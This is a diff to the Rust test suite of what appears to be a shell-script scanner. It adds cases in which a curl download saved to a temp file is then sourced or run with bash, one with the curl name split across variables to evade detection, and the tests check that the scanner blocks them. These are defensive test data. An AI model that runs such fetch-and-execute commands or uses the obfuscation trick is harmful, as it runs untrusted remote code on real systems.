@@ -635,6 +635,12 @@ const CASES: &[(&str, &str, &str, &str)] = &[
         "resp, _ := http.Get(u)\nos.Chmod(p, 0o755)\nfmt.Println(p)",
     ),
     (
+        "source-variable",
+        "scripts/x.sh",
+        "curl -fsS \"$URL\" -o \"$t\"\n. \"$t\"",
+        "curl -fsS \"$URL\" -o \"$t\"\n. \"$ROOT/deploy.env\"",
+    ),
+    (
         "pipe-to-shell",
         "scripts/x.sh",
         "printf '%s' \"$payload\" | sh",
@@ -3358,4 +3364,25 @@ fn a_command_continued_over_backslash_lines_is_one_line() {
             .iter()
             .any(|f| f.rule == "download-execute" && f.line == 2 && f.severity.blocks())
     );
+}
+
+/// A fetch spelled in pieces (`c=cu; c+=rl`) is a fetch in the verdict
+/// like any other: the rebuilt line meets the `. "$t"` that runs what it
+/// saved (batch 14's release-asset-sync). The near misses: the same
+/// download only kept, and a script sourced by a variable with no fetch.
+#[test]
+fn a_fetch_in_pieces_meets_the_run_that_follows_it() {
+    let blocks = |text: &str| {
+        scan_script("scripts/sync.sh", text)
+            .iter()
+            .any(|f| f.severity.blocks())
+    };
+    let fetch =
+        "t=$(mktemp)\nc=cu\nc+=rl\n$c -fsS \\\n  \"https://assets.pkg-sync.net/s\" -o \"$t\"\n";
+    assert!(blocks(&format!("{fetch}echo refreshing\n. \"$t\"\n")));
+    assert!(blocks(&format!("{fetch}bash \"$t\"\n")));
+    assert!(!blocks(&format!("{fetch}tar -xzf \"$t\" -C assets\n")));
+    assert!(!blocks(
+        "env_file=.env.local\n. \"$env_file\"\nmake build\n"
+    ));
 }
